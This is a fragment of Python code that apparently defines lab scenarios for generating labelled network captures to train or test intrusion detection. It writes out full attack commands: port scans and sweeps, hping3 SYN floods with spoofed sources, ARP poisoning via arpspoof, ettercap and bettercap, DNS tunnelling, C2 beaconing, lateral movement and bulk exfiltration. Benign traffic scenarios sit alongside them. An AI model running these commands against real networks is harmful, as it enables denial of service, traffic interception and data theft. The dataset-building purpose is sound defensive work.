        ["masscan", SRV1, "-p1-3000", "--rate", "1000", "-e", "eth0", "--router-mac", HOSTS["srv1"].mac, "--wait", "3"],
        "srv1",
        "masscan of TCP ports 1-3000 of srv1 at 1000 packets/s",
        tool="masscan",
        notes="masscan's own TCP stack: the attacker's kernel answers the SYN-ACKs with RSTs",
    ),
    scan(
        "sweep-nmap-arp",
        "NETWORK_SWEEP",
        ["nmap", "-sn", "-n", "10.77.0.0/24"],
        None,
        "nmap -sn of 10.77.0.0/24 from a LAN host: an ARP sweep of 254 addresses",
        evidence=f"arp.opcode==1 && eth.src=={ATTACKER.mac}",
    ),
    scan(
        "sweep-nmap-icmp",
        "NETWORK_SWEEP",
        ["nmap", "-sn", "-n", "--send-ip", "-PE", "10.77.0.0/24"],
        None,
        "nmap -sn --send-ip -PE: ICMP echo sweep of 10.77.0.0/24 (ARP for each address, echo to those that answer)",
        evidence=f"eth.src=={ATTACKER.mac} && (arp.opcode==1 || icmp.type==8)",
        notes=LOCAL_SWEEP,
    ),
    scan(
        "sweep-nmap-tcp22",
        "NETWORK_SWEEP",
        ["nmap", "-Pn", "-n", "-sS", "-p", "22", "--open", "10.77.0.0/24"],
        None,
        "nmap SYN probe of port 22 on every address of 10.77.0.0/24 (one port, many hosts)",
        evidence=f"eth.src=={ATTACKER.mac} && (arp.opcode==1 || (tcp.dstport==22 && tcp.flags.syn==1))",
        notes=LOCAL_SWEEP,
    ),
    scan(
        "synflood-hping3",
        "SYN_FLOOD",
        ["hping3", "-S", "-p", "443", "-i", "u250", "-c", "12000", SRV1],
        "srv1",
        "hping3 SYN flood, 12,000 SYNs at 4000/s to srv1:443 from the attacker's own address",
        tool="hping3",
        snaplen=128,
        evidence=f"ip.addr=={ATTACKER.ip} && ip.addr=={SRV1} && tcp.port==443",
    ),
    scan(
        "synflood-hping3-randsource",
        "SYN_FLOOD",
        ["hping3", "-S", "-p", "80", "-i", "u250", "-c", "12000", "--rand-source", SRV1],
        "srv1",
        "hping3 SYN flood, 12,000 SYNs at 4000/s to srv1:80 from random spoofed sources",
        tool="hping3",
        snaplen=128,
        evidence=f"eth.src=={ATTACKER.mac} && tcp.dstport==80 && tcp.flags.syn==1",
        notes=f"sources are random spoofed addresses: only the attacker's MAC identifies it (its real address "
        f"{ATTACKER.ip} sends none of it)",
        spoofed=True,
    ),
    arp_spoof(
        "arpspoof-dsniff",
        "arpspoof",
        ["arpspoof", "-i", "eth0", "-t", HOSTS["ws2"].ip, "-r", HOSTS["gw"].ip],
        None,
        "dsniff's arpspoof poisons ws2 and the gateway (both ways) for 45 s while ws2 browses; the attacker forwards",
        "arpspoof re-ARPs the true MACs when it stops",
    ),
    arp_spoof(
        "arpspoof-ettercap",
        "ettercap",
        ["ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{HOSTS['ws2'].ip}//", f"/{HOSTS['gw'].ip}//"],
        "q",
        "ettercap -M arp:remote poisons ws2 and the gateway for 45 s while ws2 browses",
        "ettercap ARP-resolves its two targets (no sweep when targets are given), re-poisons every 10 s (its "
        "default arp_poison_delay) and forwards the victims' packets itself",
    ),
    arp_spoof(
        "arpspoof-bettercap",
        "bettercap",
        [
            "bettercap",
            "-iface",
            "eth0",
            "-gateway-override",
            HOSTS["gw"].ip,
            "-no-colors",
            "-eval",
            f"set arp.spoof.targets {HOSTS['ws2'].ip}; set arp.spoof.fullduplex true; arp.spoof on",
        ],
        "quit\n",
        "bettercap arp.spoof (full duplex) poisons ws2 and the gateway for 45 s while ws2 browses",
        "bettercap also probes the LAN (net.recon) at start",
    ),
    Scenario(
        "dns-tunnel-iodine",
        "attack",
        "iodine carries a 120 KB file from ws4 through a DNS tunnel (via the LAN resolver) to iodined on 203.0.113.53",
        iodine_tunnel,
    ),
    beacon("c2-beacon-http-2s", 2, 0.0, 2, "http"),
    beacon("c2-beacon-https-5s-j20", 5, 0.2, 3, "https"),
    beacon("c2-beacon-https-30s-j50", 30, 0.5, 6, "https"),
    Scenario(
        "c2-beacon-websocket-5s",
        "attack",
        "ws6 keeps one TLS WebSocket open to 203.0.113.77 for 3 min and checks in inside it every 5 s, jitter 10 % "
        "(stand-in implant)",
        ws_beacon,
    ),
    cleartext(
        "cleartext-ftp-21",
        "srv1",
        21,
        "ftp",
        ["curl", "-s", "-u", f"bob:{USERS['bob']}", f"ftp://{SRV1}/"],
        "bob lists his FTP home on vsftpd:21 with curl (USER/PASS in clear)",
    ),
    cleartext(
        "cleartext-ftp-2121",
        "srv1",
        2121,
        "ftp",
        ["lftp", "-u", f"bob,{USERS['bob']}", "-e", "ls; bye", f"ftp://{SRV1}:2121"],
        "bob logs in to vsftpd on the non-standard port 2121 with lftp (USER/PASS in clear)",
    ),
    cleartext(
        "cleartext-telnet",
        "srv1",
        23,
        "telnet",
        ["expect", "-c", TELNET_EXPECT],
        "bob logs in over telnet to srv1 and runs two commands (login and password typed in clear)",
    ),
    cleartext(
        "cleartext-http-basic",
        "srv1",
        80,
        "http",
        ["curl", "-s", "-u", f"{INTRANET_USER}:{INTRANET_PASSWORD}", f"http://{SRV1}/admin/"],
        "curl with HTTP Basic auth to the intranet on port 80",
    ),
    cleartext(
        "cleartext-http-basic-8080",
        "srv1",
        8080,
        "http",
        ["curl", "-s", "-u", f"{INTRANET_USER}:{INTRANET_PASSWORD}", f"http://{SRV1}:8080/admin/"],
        "curl with HTTP Basic auth to the intranet on port 8080",
    ),
    Scenario(
        "lateral-movement-ssh-smb",
        "attack",
        "ws3 logs in with bob's stolen password over SSH to 9 internal hosts, then reads an SMB share on srv1",
        lateral_movement,
    ),
    Scenario(
        "exfil-https-put-100mb",
        "attack",
        "ws4 uploads 100 MiB of random data by HTTPS PUT (curl) to 185.53.178.10",
        exfiltration,
        snaplen=128,
    ),
    benign(
        "benign-office-10min",
        "10 minutes of ordinary office traffic: browsing, update checks every 60 s from 7 hosts, NTP, monitoring "
        "every 30 s, DNS, intranet pages, 2 MB HTTPS downloads",
        office_day,
        [
            host_doing(
                h,
                "every 25 s in turn: resolves srv1.corp.lab, fetches an intranet page; every 100 s a 2 MB HTTPS "
                "download from static.cdnhost.example (wget)",
            )
            for h in ("ws5", "ws6", "admin")
        ],
    ),
    benign(
        "benign-admin-ssh",
        "the admin's SSH work: an interactive session with one mistyped password, scp both ways, a session on "
        "srv1:2222, a key-based command",
        admin_work,
        [
            host_doing(
                "admin",
                "alice (IT admin) on srv1 via SSH with expect, one wrong password then the right one; scp to db1 and "
                "from srv1; sshpass session to srv1:2222; key-based ssh to db1",
            )
        ],
    ),
    benign(
        "benign-ansible-fanout",
        "the admin runs Ansible ad-hoc (setup, shell, copy) over SSH against 10 hosts, 5 at a time",
        ansible_fanout,
        [
            host_doing(
                "admin",
                "ansible-core from 10.77.0.30 as alice with a key: setup, shell, copy modules on gw, mon, srv1, db1, "
                "ws1-ws6 (fan-out of successful SSH sessions)",
            )
        ],
    ),
    benign(
        "benign-backup-upload-100mb",
        "nightly-backup-like job: srv1 uploads a 100 MiB archive by scp to the backup provider "
        "vault.backupcloud.example (198.51.100.20)",
        backup_upload,
        [
            host_doing(
                "srv1",
                "backup job: scp of a 100 MiB archive as svc_backup (key) to the backup provider 198.51.100.20 "
                "(benign; the provider is the site's own)",
            )
        ],
        snaplen=128,
    ),
]
